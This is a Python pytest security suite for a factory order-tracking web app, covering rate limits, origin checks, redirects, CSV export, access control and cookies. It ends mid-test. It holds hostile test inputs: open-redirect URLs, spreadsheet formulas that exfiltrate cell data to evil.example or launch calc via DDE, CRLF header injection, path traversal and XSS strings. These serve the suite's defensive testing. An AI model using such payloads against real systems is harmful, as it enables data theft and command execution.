"""The security suite: each control of docs/security.md held by a test that fails without it.

Controls already held elsewhere are listed in docs/security.md with their tests; this file holds
the rest. Every test attacks the way an outsider would (any header, any callback, any input) and
checks the answer, not the implementation.
"""

from __future__ import annotations

import csv
import io
import json
import re
import secrets
import threading
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import websocket
from click.testing import CliRunner
from werkzeug.serving import make_server

import app as app_module
from app import create_app
from config import Settings
from factory.validation import PlantCheck
from redis_server import RedisServer
from streams import events as ev
from streams.codec import to_json
from streams.mqtt_bridge import MqttBridge
from support import (
    API_KEY,
    PASSWORD,
    ROOT,
    TOKEN_A,
    TOKEN_B,
    EventFactory,
    add_kiosk,
    add_user,
    build_factory,
    callback_body,
    catch_up,
    client_as,
    free_port,
    layout_text,
    sign_in,
)
from web.auth import TOKEN_PATTERN
from web.csv_safe import FORMULA_STARTS, PLAIN_NUMBER, csv_text
from web.login import safe_next
from web.ratelimit import MISSES_PER_MINUTE, SIGN_INS_PER_MINUTE

HANDSHAKE = "/socket.io/?EIO=4&transport=polling"


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    """One factory (support.build_factory) for the tests that only read it or are refused by it."""
    return build_factory(EventFactory(), tmp_path_factory.mktemp("shared"))


def _guess() -> str:
    return secrets.token_urlsafe(16)


def _now_event(event: ev.Event) -> ev.Event:
    """The same event stamped now (the ingest gate refuses times far from the line's clock)."""
    return replace(event, time=datetime.now(UTC))


def _ingest(client, *events: ev.Event):
    body = "\n".join(to_json(e) for e in events)
    return client.post(
        "/api/events",
        data=body,
        headers={"Authorization": f"Bearer {API_KEY}", "Content-Type": "application/x-ndjson"},
    )


# --- tracking tokens ----------------------------------------------------------------------------------
def test_tracking_tokens_are_128_random_bits_even_in_a_seeded_plant(plant):
    """`tf run --seed` repeats the plant, never its tokens: they come from the OS's CSPRNG."""
    from line_emulator.model import PlantModel
    from line_emulator.runner import run_fast

    def placed(seed: int) -> list[ev.OrderPlaced]:
        out: list[ev.Event] = []
        run_fast(PlantModel(plant, out.append, datetime(2026, 1, 5, 2, tzinfo=UTC), seed=seed), 1800)
        return [e for e in out if isinstance(e, ev.OrderPlaced)]

    first, again = placed(3), placed(3)
    assert len(first) > 10 and [e.unit_code for e in first] == [e.unit_code for e in again]  # the same plant
    tokens = [e.tracking_token for e in first]
    assert not set(tokens) & {e.tracking_token for e in again}  # ... with other tokens
    assert len(set(tokens)) == len(tokens)
    for order in first:  # 16 random bytes, URL-safe base64, unrelated to the order's codes
        assert TOKEN_PATTERN.fullmatch(order.tracking_token) and len(order.tracking_token) == 22
        assert order.unit_code not in order.tracking_token and order.order_id not in order.tracking_token


@pytest.mark.parametrize("token", ["short-token", "x" * 15, "a" * 65, "tokenA-0123456789/../x", "tokenA 0123456789abc"])
def test_an_order_from_outside_with_a_weak_or_odd_token_is_refused(shared, token):
    response = _ingest(client_as(shared), _now_event(EventFactory().placed(0, "UW", token=token)))
    assert response.status_code == 422 and response.get_json()["errors"][0]["reason"] == "bad_token"


# --- enumeration: per-client allowance of misses ---------------------------------------------------------
def _lookups(factory, client, token: str) -> dict[str, int]:
    """Every public way of looking a token up, with the status each answers."""
    socket = factory.socketio.test_client(
        factory.dash_app.server, auth={"view": "track", "token": token}, flask_test_client=client
    )
    return {
        "tracker page": client.get(f"/track/{token}").status_code,
        "order API": client.get(f"/api/orders/{token}").status_code,
        "report": client.get(f"/api/orders/{token}/report.csv").status_code,
        "live frame": client.get(f"/api/live/order/{token}").status_code,
        "feedback": client.post(f"/api/orders/{token}/feedback", json={"rating": 4}).status_code,
        "socket": 200 if socket.is_connected() else 404,
    }


def test_guessing_tokens_anywhere_blocks_the_guesser_everywhere_and_no_one_else(factory):
    guesser = client_as(factory)
    guesser.environ_base["REMOTE_ADDR"] = "10.66.0.1"
    customer = client_as(factory)
    customer.environ_base["REMOTE_ADDR"] = "10.66.0.2"
    assert set(_lookups(factory, customer, TOKEN_A).values()) <= {200, 201, 303}
    misses = 0
    while misses < MISSES_PER_MINUTE:  # each public lookup counts against the same allowance
        misses += sum(1 for status in _lookups(factory, guesser, _guess()).values() if status == 404)
    assert set(_lookups(factory, guesser, _guess()).values()) <= {429, 404}
    blocked = _lookups(factory, guesser, TOKEN_A)  # the guesser's own link too: it locks out only itself
    assert {k: v for k, v in blocked.items() if k != "socket"} == dict.fromkeys(
        ["tracker page", "order API", "report", "live frame", "feedback"], 429
    )
    assert blocked["socket"] == 404
    for _ in range(MISSES_PER_MINUTE + 5):  # a customer re-opening their link is never slowed
        assert customer.get(f"/api/orders/{TOKEN_A}").status_code == 200
    assert set(_lookups(factory, customer, TOKEN_B).values()) <= {200, 201, 303}


# --- the real client behind trusted proxies --------------------------------------------------------------
@pytest.mark.parametrize("trusted", [0, 1])
def test_forwarded_addresses_are_believed_from_trusted_proxies_only(events, trusted):
    factory = create_app(Settings(emulator=False, data_dir=None, trusted_proxies=trusted))
    factory.bus.publish(events.placed(0, "UA", token=TOKEN_A))
    catch_up(factory)
    client = client_as(factory)
    proxy = {"REMOTE_ADDR": f"10.77.{trusted}.1"}  # every request arrives from the same proxy

    def lookup(token: str, forwarded: str) -> int:
        return client.get(
            f"/api/orders/{token}", environ_base=proxy, headers={"X-Forwarded-For": forwarded}
        ).status_code

    # One client behind the proxy guesses; it claims a new address at every guess.
    for i in range(MISSES_PER_MINUTE):
        assert lookup(_guess(), f"192.0.2.{i}, 203.0.113.9") == 404
    other_client = lookup(TOKEN_A, "203.0.113.10")
    same_client_new_claim = lookup(TOKEN_A, "192.0.2.200, 203.0.113.9")
    if trusted:  # the proxy's hop names the client: only the guesser is blocked, whatever it prepends
        assert (other_client, same_client_new_claim) == (200, 429)
    else:  # the header is anyone's to write: the limit is the connection's, the proxy's
        assert (other_client, same_client_new_claim) == (429, 429)
    # Sign-in attempts are counted on the same key.
    codes = [
        client.post(
            "/login",
            data={"user": f"nobody{i}", "password": "wrong password"},
            environ_base=proxy,
            headers={"X-Forwarded-For": f"198.51.100.{i}"},
        ).status_code
        for i in range(SIGN_INS_PER_MINUTE + 1)
    ]
    assert codes[-1] == (401 if trusted else 429)


def test_workers_sharing_redis_share_limits_sessions_and_revocations(tmp_path, events):
    import redis

    server = RedisServer(tmp_path / "redis")
    workers = [
        create_app(Settings(emulator=False, data_dir=tmp_path / name, redis_url=server.url, api_keys=(API_KEY,)))
        for name in ("w1", "w2")
    ]
    try:
        one = workers[0]
        one.bus.publish_many([events.placed(0, "UA", token=TOKEN_A)])
        add_user(one, "mia", "manager", PASSWORD)
        for worker in workers:
            catch_up(worker)
        first, second = (w.dash_app.server.test_client() for w in workers)
        # Misses on one worker count on the other.
        for _ in range(MISSES_PER_MINUTE):
            first.get(f"/api/orders/{_guess()}", environ_base={"REMOTE_ADDR": "10.88.0.1"})
        assert second.get(f"/api/orders/{TOKEN_A}", environ_base={"REMOTE_ADDR": "10.88.0.1"}).status_code == 429
        assert second.get(f"/api/orders/{TOKEN_A}", environ_base={"REMOTE_ADDR": "10.88.0.2"}).status_code == 200
        # A session from one worker is valid on the other; signing out on one ends it on both.
        sign_in(first, "mia", PASSWORD)
        second.set_cookie("session", first.get_cookie("session").value)
        assert second.get("/orders").status_code == 200
        first.get("/logout")
        for worker in workers:
            catch_up(worker)
        assert second.get("/orders").status_code == 303
        # Sign-in attempts are counted in Redis too, not in one process's memory.
        first.post("/login", data={"user": "mia", "password": "wrong"}, environ_base={"REMOTE_ADDR": "10.88.0.3"})
        keys = {k.decode() for k in redis.Redis.from_url(server.url).keys("LIMITS:*")}
        assert any("tf-misses/10.88.0.1" in k for k in keys) and any("10.88.0.3/login" in k for k in keys)
    finally:
        for worker in workers:
            worker.bus.close()
        server.stop()


# --- sockets: the Origin check --------------------------------------------------------------------------
@pytest.fixture(scope="module")
def served():
    """The app on a real HTTP server (Engine.IO checks Origin there; the in-process socket client skips it)."""
    factory = create_app(Settings(emulator=False, data_dir=None))
    factory.bus.publish(EventFactory().placed(0, "UA", token=TOKEN_A))
    catch_up(factory)
    port = free_port()
    server = make_server("127.0.0.1", port, factory.dash_app.server, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield port
    server.shutdown()


def _open_socket(port: int, origin: str) -> list[str]:
    """Open a WebSocket as a browser page at ``origin`` would and join TOKEN_A's room; return what came."""
    url = f"ws://127.0.0.1:{port}/socket.io/?EIO=4&transport=websocket"
    try:
        ws = websocket.create_connection(url, origin=origin, timeout=10)
    except websocket.WebSocketBadStatusException as exc:
        return [f"refused {exc.status_code}"]
    try:
        received = [ws.recv()]  # Engine.IO's open packet
        ws.send("40" + json.dumps({"view": "track", "token": TOKEN_A}))
        received += [ws.recv(), ws.recv()]  # the connect answer and the room's snapshot
        return received
    finally:
        ws.close()


@pytest.mark.parametrize(
    "origin",
    ["http://evil.example", "null", "http://127.0.0.1.evil.example", "https://127.0.0.1:{port}", "http://127.0.0.1:1"],
)
def test_a_socket_from_a_page_of_another_origin_is_refused(served, origin):
    assert _open_socket(served, origin.format(port=served)) == ["refused 400"]


def test_a_socket_from_the_apps_own_pages_is_admitted(served):
    received = _open_socket(served, f"http://127.0.0.1:{served}")
    assert received[0].startswith("0{") and any(m.startswith('42["order"') and '"UA"' in m for m in received)


@pytest.mark.parametrize(
    "settings, origin, status",
    [
        ({}, "https://factory.example.com", 400),  # forwarded host and scheme from an untrusted hop
        ({"trusted_proxies": 1}, "https://factory.example.com", 200),
        ({"trusted_proxies": 1}, "https://evil.example", 400),
        ({"trusted_proxies": 1}, "http://factory.example.com", 400),  # the proxy said https
        ({"allowed_origins": ("https://partner.example",)}, "https://partner.example", 200),
        ({"allowed_origins": ("https://partner.example",)}, "https://partner.example.evil", 400),
    ],
)
def test_the_origin_behind_a_proxy_and_the_allowed_origins(settings, origin, status):
    factory = create_app(Settings(emulator=False, data_dir=None, **settings))
    headers = {"Origin": origin, "X-Forwarded-Proto": "https", "X-Forwarded-Host": "factory.example.com"}
    assert factory.dash_app.server.test_client().get(HANDSHAKE, headers=headers).status_code == status


@pytest.mark.parametrize(
    "origin, status",
    [("https://factory.example.com", 200), ("http://app.internal", 400), ("https://app.internal", 400)],
)
def test_behind_two_proxies_the_origin_is_the_one_the_outer_proxy_saw(origin, status):
    """Each proxy appends its hop: the first of the two trusted ones is second from the end (as ProxyFix)."""
    factory = create_app(Settings(emulator=False, data_dir=None, trusted_proxies=2))
    headers = {
        "Origin": origin,
        "X-Forwarded-For": "203.0.113.5, 10.0.0.2",
        "X-Forwarded-Proto": "https, http",
        "X-Forwarded-Host": "factory.example.com, app.internal",
    }
    assert factory.dash_app.server.test_client().get(HANDSHAKE, headers=headers).status_code == status


# --- sign-in: where it may send you ----------------------------------------------------------------------
OFF_SITE = [
    "http://evil.example/",
    "HTTPS://evil.example",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "/%5Cevil.example",
    "/%5c%5cevil.example",
    "/%2Fevil.example",
    "%2F%2Fevil.example",
    "/%2F/evil.example",
    "/\t/evil.example",
    "/%09/evil.example",
    "\t//evil.example",
    " //evil.example",
    "/\r\n/evil.example",
    "/%0d%0a/evil.example",
    "/%0D%0ASet-Cookie:%20x=1",
    "/\x00/evil.example",
    "/%00",
    "/\x7f/evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "evil.example",
    "",
    "/" + "a" * 3000,
]


@pytest.mark.parametrize("target", OFF_SITE)
def test_the_return_path_after_sign_in_never_leaves_the_site(shared, target):
    assert safe_next(target) == "/"
    form = client_as(shared).get("/login", query_string={"next": target}).get_data(as_text=True)
    assert 'name="next" value="/">' in form
    response = client_as(shared).post("/login", data={"user": "mia", "password": PASSWORD, "next": target})
    assert response.status_code == 303 and response.headers["Location"] == "/"


@pytest.mark.parametrize("target", ["/floor?line=ac1&kiosk=1", "/exec", "/orders?q=%2F%2Fx", "/track/abc#top"])
def test_paths_on_the_site_are_kept_and_written_escaped(shared, target):
    assert safe_next(target) == target
    hostile = '/"><script>alert(1)</script>'
    form = client_as(shared).get("/login", query_string={"next": hostile}).get_data(as_text=True)
    assert "<script>alert" not in form and "&lt;script&gt;" in form


# --- CSV exports -------------------------------------------------------------------------------------------
# Text a line may send, and the one cell a spreadsheet must show for it: a formula start gets an
# apostrophe; a CR or LF inside a cell keeps it one cell (a spreadsheet ends a row at a bare CR).
HOSTILE = [(f'{start}HYPERLINK("http://evil.example/?"&A1,"open")', "'") for start in FORMULA_STARTS] + [
    ("SO-1\r=1+2", ""),
    ("SO-2\n-1+2", ""),
    ("SO-3\r\n@SUM(A1)", ""),
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _neutralised(text: str, values: list[str]) -> None:
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(c)], (
        "a cell a spreadsheet would run"
    )
    for value, mark in HOSTILE:
        if value in values:
            assert mark + value in cells  # kept whole, as text


def test_plain_numbers_stay_numbers_and_anything_more_is_neutralised():
    row = ["-3.5", "+1e-3", "-.5", "-", "-2+3+cmd|' /C calc'!A0", "-1e5)", "+", "12"]
    assert _cells(csv_text([row])) == ["-3.5", "+1e-3", "-.5", "'-", "'-2+3+cmd|' /C calc'!A0", "'-1e5)", "'+", "12"]


def test_the_test_report_csv_neutralises_formulas_in_order_and_unit_codes(factory, events):
    client = client_as(factory)
    for n, (value, _) in enumerate(HOSTILE):
        token = f"formula-token-{n:02d}-0123456789"
        factory.bus.publish(replace(events.placed(0, value, token=token), order_id=value + "!"))
        catch_up(factory)
        response = client.get(f"/api/orders/{token}/report.csv")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        text = response.get_data(as_text=True)
        _neutralised(text, [value])
        assert HOSTILE[n][1] + value + "!" in _cells(text)


def test_the_executive_csv_neutralises_formulas_in_defect_and_downtime_codes(factory, events):
    formulas = [value for value, _ in HOSTILE]
    batch: list[ev.Event] = []
    for n, formula in enumerate(formulas):
        unit = f"UQ{n}"
        batch += [
            events.placed(1, unit, token=f"quality-token-{n:02d}-0123456789"),
            ev.QualityChecked(
                **events._env(5 + n),
                unit_code=unit,
                line_id="ac1",
                station_id="run_test",
                passed=False,
                measurements=(ev.Measurement("noise", "Indoor unit noise", "dB(A)", 45.0, None, 40.0, False),),
                defect_code=formula,
            ),
        ]
    batch += [
        ev.MachineDown(
            **events._env(20), line_id="ac1", station_id="brazing", machine=1, reason_code=formulas[1], reason="x"
        ),
        ev.MachineUp(
            **events._env(30), line_id="ac1", station_id="brazing", machine=1, reason_code=formulas[1], down_s=600.0
        ),
    ]
    factory.bus.publish_many(batch)
    factory.history.record(batch)
    catch_up(factory)
    client = client_as(factory, "wes")
    client.get("/")
    dep = next(d for d in client.get("/_dash-dependencies").get_json() if d["output"] == "exec-download.data")
    values = {"n_clicks": 1, "start_date": "2026-03-02", "end_date": "2026-03-02", "exec-line.value": "ac1"}
    response = client.post("/_dash-update-component", json=callback_body(dep, values))
    assert response.status_code == 200
    download = response.get_json()["response"]["exec-download"]["data"]
    assert download["type"] == "text/csv"
    _neutralised(download["content"], formulas)


@pytest.mark.parametrize("unit", ["U1\r\nSet-Cookie: x=1", "U1\"; filename*=UTF-8''evil.html; x=\"", "U1/../../x"])
def test_a_unit_code_from_a_line_cannot_steer_the_reports_download_header(factory, events, unit):
    token = "header-token-0123456789"
    factory.bus.publish(events.placed(0, unit, token=token))
    catch_up(factory)
    for kind in ("csv", "pdf"):
        response = client_as(factory).get(f"/api/orders/{token}/report.{kind}")
        assert response.status_code == 200 and "Set-Cookie" not in response.headers
        assert re.fullmatch(
            rf'attachment; filename="test-report-[A-Za-z0-9._-]+\.{kind}"', response.headers["Content-Disposition"]
        )


def test_every_csv_the_product_writes_goes_through_csv_safe():
    """Any new export (an orders grid export, say) must use web.csv_safe: nothing else may write CSV."""
    sources = [p for folder in ("web", "dashboard", "factory", "streams") for p in (ROOT / folder).rglob("*.py")] + [
        ROOT / "app.py",
        ROOT / "assets" / "tf-common.js",
        *(ROOT / "assets").glob("*.js"),
    ]
    writers, exports = [], []
    for path in sources:
        text = path.read_text()
        name = str(path.relative_to(ROOT))
        if re.search(r"csv\.(writer|DictWriter)|exportDataAsCsv|csvExportParams|to_csv\(", text):
            writers.append(name)
        if "text/csv" in text:
            exports.append(name)
    assert set(writers) <= {"web/csv_safe.py", "dashboard/components/exec_figures.py", "dashboard/pages/executive.py"}
    for name in exports:
        text = (ROOT / name).read_text()
        assert "csv_safe" in text or "reports.report_csv" in text or "to_csv" in text, name


# --- tokens and unit codes are bound to their first order --------------------------------------------------
def test_an_order_reusing_a_token_or_a_unit_code_is_refused_into_the_dead_letter(factory, events):
    client = client_as(factory)
    stolen_token = _now_event(events.placed(0, "UZ", token=TOKEN_A))
    stolen_unit = _now_event(replace(events.placed(0, "UA", token=_guess()), order_id="SO-other"))
    response = _ingest(client, stolen_token, stolen_unit)
    assert response.status_code == 422
    assert [e["reason"] for e in response.get_json()["errors"]] == ["token_taken", "unit_code_taken"]
    # The same over MQTT: the bridge hands messages to the same gate.
    bridge = MqttBridge("mqtt://127.0.0.1:1", "factory/+/events", factory.ingestor)
    bridge._handle(to_json(_now_event(events.placed(0, "UY", token=TOKEN_B))).encode(), "factory/ac1/events")
    dead = list(factory.bus.dead_letters)
    assert [d[0] for d in dead] == ["token_taken", "unit_code_taken", "token_taken"]
    assert TOKEN_A in dead[0][2] and dead[2][1].startswith("mqtt:factory/ac1/events")
    factory.ingestor.flush(force=True)
    catch_up(factory)
    assert client.get(f"/api/orders/{TOKEN_A}").get_json()["unit_code"] == "UA"  # the customer keeps their order
    # Re-sending the order itself (a new event id) is no theft.
    again = _now_event(events.placed(0, "UB", token=TOKEN_B))
    assert _ingest(client, again).status_code == 200


def test_the_gate_asks_the_history_about_tokens_and_codes_it_no_longer_remembers(factory, events):
    history = factory.history
    gate = PlantCheck(factory.plant, lookup_token=history.unit_for_token, lookup_unit=history.unit_order)
    assert gate.check(_now_event(events.placed(0, "UZ", token=TOKEN_A))) == "token_taken"
    assert gate.check(_now_event(replace(events.placed(0, "UA", token=_guess()), order_id="SO-x"))) == "unit_code_taken"
    assert gate.check(_now_event(events.placed(0, "UZ", token=_guess()))) is None


# --- the customer's view holds one order, nothing else ------------------------------------------------------
def test_a_tracker_in_a_busy_plant_shows_no_other_order(plant):
    from line_emulator.model import PlantModel
    from line_emulator.runner import run_fast

    factory = create_app(Settings(emulator=False, data_dir=None))
    out: list[ev.Event] = []
    run_fast(PlantModel(plant, out.append, datetime(2026, 1, 5, 2, tzinfo=UTC), seed=11), 3600)
    factory.bus.publish_many(out)
    catch_up(factory)
    orders = [e for e in out if isinstance(e, ev.OrderPlaced)]
    mine = next(o for o in orders if o.line_id == "ac1" and factory.queries.order(o.tracking_token)["units_ahead"])
    others = [o for o in orders if o is not mine]
    client = client_as(factory)
    answers = [
        client.get(f"/api/orders/{mine.tracking_token}").get_data(as_text=True),
        client.get(f"/api/live/order/{mine.tracking_token}").get_data(as_text=True),
        client.get(f"/api/orders/{mine.tracking_token}/report.csv").get_data(as_text=True),
        layout_text(factory, f"/track/{mine.tracking_token}", client=client),
    ]
    for text in answers:
        assert mine.unit_code in text
        leaked = [value for o in others for value in (o.unit_code, o.order_id, o.tracking_token) if value in text]
        assert not leaked


# --- every Dash callback decides on the server, whatever the caller claims --------------------------------
ORDERS = ["SO-UB", TOKEN_B]  # order B: the spoofed tracker paths below carry order A's token
EXEC = ["Availability", "Enterprise performance", "exec-range"]
INBOX = ["secret feedback 7f3"]


@pytest.fixture(scope="module")
def people(shared):
    """Clients of the shared factory as each kind of person, site-bound ones included; feedback in the inbox."""
    factory = shared
    assert client_as(factory).post(f"/api/orders/{TOKEN_B}/feedback", json={"comment": INBOX[0]}).status_code == 201
    add_user(factory, "sam", "manager", PASSWORD, site="camden")
    add_user(factory, "cara", "executive", PASSWORD, site="camden")
    wall = factory.dash_app.server.test_client()
    assert wall.get(f"/kiosk/{add_kiosk(factory, 'Hall ac1', line='ac1')}").status_code == 303
    clients = {name: client_as(factory, name) for name in ("mia", "wes", "sam", "cara")}
    clients.update(anonymous=client_as(factory), wall=wall)
    for client in clients.values():
        client.get("/")
    deps = clients["anonymous"].get("/_dash-dependencies").get_json()
    return clients, {d["output"]: d for d in deps if not d.get("clientside_function")}


def _call(clients, deps, who, output, values, wildcard=None) -> str:
    dep = next(d for name, d in deps.items() if output in name)
    response = clients[who].post("/_dash-update-component", json=callback_body(dep, values, wildcard))
    assert response.status_code in (200, 204), response.get_data(as_text=True)
    return response.get_data(as_text=True)


def _spoofs(path: str) -> list[str]:
    return [path, path + "/", f"/track/{TOKEN_A}/../..{path}", f"/track/{TOKEN_A}{path}", path + "?x=1"]


@pytest.mark.parametrize(
    "who, path, search, forbidden",
    [
        ("wall", "/orders", "", ORDERS),
        ("wall", "/inbox", "", INBOX),
        ("wall", "/exec", "", EXEC),
        ("wall", "/floor", "?line=rf2", ["Refrigerator line 2"]),
        ("wes", "/orders", "", ORDERS),
        ("wes", "/inbox", "", INBOX),
        ("mia", "/exec", "", EXEC),
        ("sam", "/floor", "?line=ac1", ["Air conditioner line 1", "Brazing"]),
        ("sam", "/orders", "", ORDERS),
        ("sam", "/inbox", "", INBOX),
        ("cara", "/exec", "", ["Zhengzhou", "Air conditioner"]),
        ("cara", "/orders", "", ORDERS),
    ],
)
def test_pages_rendered_for_the_wrong_person_hold_no_factory_data(shared, people, who, path, search, forbidden):
    clients, _ = people
    for pathname in _spoofs(path):
        text = layout_text(shared, pathname, search, client=clients[who])
        assert not [m for m in forbidden if m in text], (who, pathname, search)


def test_the_right_person_does_see_the_data(shared, people):
    """The markers above are real: the entitled person's page holds them."""
    clients, _ = people
    assert all(m in layout_text(shared, "/orders", client=clients["mia"]) for m in ORDERS)
    assert INBOX[0] in layout_text(shared, "/inbox", client=clients["mia"])
    assert "Enterprise performance" in layout_text(shared, "/exec", client=clients["wes"])
    assert "Brazing" in layout_text(shared, "/floor", "?line=ac1", client=clients["wall"])
    assert "Refrigerator line 2" in layout_text(shared, "/floor", "?line=rf2", client=clients["sam"])


EXEC_SCOPE = {"start_date": "2026-03-02", "end_date": "2026-03-02"}
CHARTS = {"figure": [{"chart": name, "type": "exec-chart"} for name in ("oee_trend", "sites", "lines")]}


@pytest.mark.parametrize(
    "who, scope",
    [
        ("anonymous", {}),
        ("wall", {}),
        ("mia", {}),
        ("sam", {}),
        ("cara", {"exec-line.value": "ac1"}),
        ("cara", {"exec-site.value": "zhengzhou"}),
    ],
)
def test_executive_callbacks_answer_only_executives_of_that_scope(people, who, scope):
    clients, deps = people
    values = {**EXEC_SCOPE, "n_clicks": 1, **scope}
    shown = _call(clients, deps, who, "exec-headline.children", values, CHARTS)
    downloaded = _call(clients, deps, who, "exec-download.data", values)
    drilled = _call(clients, deps, who, "exec-site.value", {"exec-line.value": "ac1", **scope})
    for text in (shown, downloaded, drilled):
        assert not [m for m in ("Availability", "headline,oee", "Zhengzhou", "Kitting") if m in text], who
    if who == "cara":  # her own site still answers
        own = _call(clients, deps, who, "exec-download.data", {**EXEC_SCOPE, "n_clicks": 1})
        assert "headline,oee" in own and "Zhengzhou" not in own


def test_executive_callbacks_do_answer_an_executive(people):
    clients, deps = people
    values = {**EXEC_SCOPE, "n_clicks": 1, "exec-line.value": "ac1"}
    assert "Availability" in _call(clients, deps, "wes", "exec-headline.children", values, CHARTS)
    assert "headline,oee" in _call(clients, deps, "wes", "exec-download.data", values)
    assert "Kitting" in _call(clients, deps, "wes", "exec-site.value", {"exec-line.value": "ac1"})


@pytest.mark.parametrize("who", ["anonymous", "wall", "wes", "cara", "sam"])
def test_the_orders_grid_refresh_answers_only_managers_of_that_site(people, who):
    clients, deps = people
    text = _call(clients, deps, who, "orders-grid.rowData", {"n_clicks": 1})
    assert not [m for m in ORDERS if m in text]
    assert all(m in _call(clients, deps, "mia", "orders-grid.rowData", {"n_clicks": 1}) for m in ORDERS)


def test_a_site_bound_manager_gets_only_their_site_over_rest(shared, people):
    clients, _ = people
    sam = clients["sam"]
    assert sam.get("/api/kpis?line=ac1").status_code == 403
    assert sam.get("/api/kpis?site=zhengzhou").status_code == 403
    assert sam.get("/api/live/floor/ac1").status_code == 403
    assert sam.get("/api/live/floor/rf2").status_code == 200
    assert INBOX[0] not in sam.get("/api/feedback").get_data(as_text=True)
    assert INBOX[0] in clients["mia"].get("/api/feedback").get_data(as_text=True)


def test_feedback_posts_are_limited_per_client(factory):
    client = client_as(factory)
    codes = [
        client.post(
            f"/api/orders/{TOKEN_A}/feedback", json={"rating": 5}, environ_base={"REMOTE_ADDR": "10.99.0.1"}
        ).status_code
        for _ in range(21)
    ]
    assert codes[:20] == [201] * 20 and codes[20] == 429
    other = client.post(
        f"/api/orders/{TOKEN_A}/feedback", json={"rating": 5}, environ_base={"REMOTE_ADDR": "10.99.0.2"}
    )
    assert other.status_code == 201


def test_an_api_key_opens_the_machine_api_only(shared):
    """A key is for lines and reporting tools: no pages, no people's data, no floor frames."""
    client = client_as(shared)
    key = {"Authorization": f"Bearer {API_KEY}"}
    assert client.get("/api/sites", headers=key).status_code == 200
    assert client.get("/floor?line=ac1", headers=key).status_code == 303
    assert client.get("/orders", headers=key).status_code == 303
    assert client.get("/api/feedback", headers=key).status_code == 401
    assert client.get("/api/live/floor/ac1", headers=key).status_code == 403
    assert client.post("/api/alarms/ack", json={"alarm": "x"}, headers=key).status_code == 401
    client.get("/")
    assert "SO-UB" not in layout_text(shared, "/orders", client=client, headers=key)


# --- headers, bodies, cookies --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "path",
    [
        f"/track/{TOKEN_A}",
        "/track/unknown-token-0123456789",
        f"/api/orders/{TOKEN_A}",
        f"/api/orders/{TOKEN_A}/report.csv",
        f"/api/orders/{TOKEN_A}/report.pdf",
        "/api/orders/unknown-token-0123456789",
        f"/api/live/order/{TOKEN_A}",
    ],
)
def test_secret_link_answers_are_kept_by_no_cache_and_leak_through_no_referer(shared, path):
    headers = client_as(shared).get(path).headers
    assert headers["Cache-Control"] == "no-store"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["X-Frame-Options"] == "DENY" and "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert (
        "script-src 'self'" in headers["Content-Security-Policy"]
        and "unsafe-eval" not in headers["Content-Security-Policy"]
    )


@pytest.mark.parametrize(
    "method, path",
    [
        ("post", f"/api/orders/{TOKEN_A}/feedback"),
        ("post", "/api/alarms/ack"),
        ("post", "/_dash-update-component"),
    ],
)
def test_json_nested_too_deep_is_refused_before_it_is_parsed(shared, method, path):
    client = client_as(shared, "mia")
    deep = "[" * 40 + "]" * 40
    response = getattr(client, method)(path, data=deep, headers={"Content-Type": "application/json"})
    assert response.status_code == 400 and response.get_json()["error"] == "too_deep"


def test_no_body_beyond_16_mb_is_taken_anywhere(shared):
    client = client_as(shared)
    big = b"x" * (16 * 1024 * 1024 + 1)
    for path in (f"/api/orders/{TOKEN_A}/feedback", "/login"):
        response = client.post(path, data=big, headers={"Content-Type": "application/x-www-form-urlencoded"})
        assert response.status_code == 413, path


def _session_cookie(response) -> str:
    cookies = [c for c in response.headers.getlist("Set-Cookie") if c.startswith("session=")]
    assert len(cookies) == 1
    return cookies[0]


def test_the_session_cookie_is_httponly_lax_and_secure_over_https(events, tmp_path):
    factory = build_factory(events, tmp_path, trusted_proxies=1)
    form = {"user": "mia", "password": PASSWORD, "next": "/"}
    plain = _session_cookie(client_as(factory).post("/login", data=form))
    assert "HttpOnly" in plain and "SameSite=Lax" in plain
    expires = re.search(r"Expires=([^;]+)", plain).group(1)
    lifetime = datetime.strptime(expires, "%a, %d %b %Y %H:%M:%S GMT").replace(tzinfo=UTC) - datetime.now(UTC)
    assert timedelta(days=29) < lifetime <= timedelta(days=30)
    behind_tls_proxy = client_as(factory).post("/login", data=form, headers={"X-Forwarded-Proto": "https"})
    direct_tls = client_as(factory).post("/login", data=form, base_url="https://localhost")
    for response in (behind_tls_proxy, direct_tls):
        cookie = _session_cookie(response)
        assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie


def test_an_alarm_is_acknowledged_only_by_json_from_a_manager_of_its_site(factory, events):
    """Besides SameSite=Lax, actions take JSON only, which no cross-site form can send without CORS."""
    factory.bus.publish(
        ev.MachineDown(**events._env(2), line_id="ac1", station_id="brazing", machine=1, reason_code="GAS", reason="x")
    )
    catch_up(factory)
    alarm = factory.queries.floor("ac1")["alarms"][0]["id"]
    manager = client_as(factory, "mia")
    for content_type in ("application/x-www-form-urlencoded", "text/plain", "multipart/form-data"):
        response = manager.post(
            "/api/alarms/ack", data=json.dumps({"alarm": alarm}), headers={"Content-Type": content_type}
        )
        assert response.status_code != 200, content_type
    add_user(factory, "sam", "manager", PASSWORD, site="camden")
    assert client_as(factory, "sam").post("/api/alarms/ack", json={"alarm": alarm}).status_code == 404  # not his site
    assert manager.post("/api/alarms/ack", json={"alarm": alarm}).status_code == 200


def test_an_unknown_name_costs_a_password_check_too(monkeypatch):
    """Sign-in answers as slowly for a name that does not exist: no account enumeration by timing."""
    import web.accounts as accounts

    checked: list[str] = []
    real = accounts.check_password
    monkeypatch.setattr(accounts, "check_password", lambda stored, pw: checked.append(stored) or real(stored, pw))
    assert accounts.verify(accounts.AccountsState(), "nobody", "some password") is None
    assert len(checked) == 1 and checked[0].startswith("$argon2id$")


def test_a_tampered_session_cookie_is_nobody(factory):
    client = client_as(factory, "ada")
    assert client.get("/orders").status_code == 200
    value = client.get_cookie("session").value
    payload, _, signature = value.rpartition(".")
